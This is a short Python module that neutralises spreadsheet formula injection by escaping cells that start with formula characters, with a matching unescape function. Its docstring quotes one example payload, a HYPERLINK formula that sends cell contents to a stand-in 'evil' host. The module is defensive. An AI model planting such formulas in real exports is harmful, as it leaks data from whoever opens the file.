"""Spreadsheet formula injection, neutralised.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read as a formula by spreadsheet programs (a name like
``=HYPERLINK("http://evil/?"&A1)`` would run when HR opens the export). Such
text gets a leading apostrophe, which spreadsheets show as plain text. Text
that already starts with an apostrophe gets one more, so the escaping can
always be undone exactly (``unescape``).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED_STARTS = (*FORMULA_STARTS, "'")


def escape(value: object) -> object:
    if isinstance(value, str) and value.startswith(_ESCAPED_STARTS):
        return "'" + value
    return value


def unescape(value: object) -> object:
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    return value
